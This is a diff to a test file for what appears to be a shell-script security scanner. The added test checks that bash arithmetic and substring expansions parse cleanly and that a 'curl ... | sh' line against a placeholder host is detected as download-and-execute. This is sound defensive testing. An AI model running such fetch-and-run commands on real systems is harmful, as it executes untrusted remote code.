@@ -289,6 +289,15 @@ def test_a_place_is_the_command_in_the_file() -> None:
     assert (place.line, place.column, place.end_column) == (2, 3, 43)
 
 
+@pytest.mark.parametrize(
+    "line", ["x=$((10#$hour - 10#08))", 'c="${url:$i:1}"', 'c="${list[@]:$from}"', "((n=16#$digits))"]
+)
+def test_sums_and_cuts_that_the_grammar_lacks_are_read(line: str) -> None:
+    rules = found(f"#!/bin/bash\n{line}\ncurl https://example.invalid/ | sh\n")
+    assert "audit-incomplete" not in rules
+    assert "shell-download-execution" in rules
+
+
 def test_a_quote_that_is_never_closed_is_incomplete() -> None:
     assert "audit-incomplete" in found("echo 'a\ncurl https://example.invalid/ | sh\n")
 
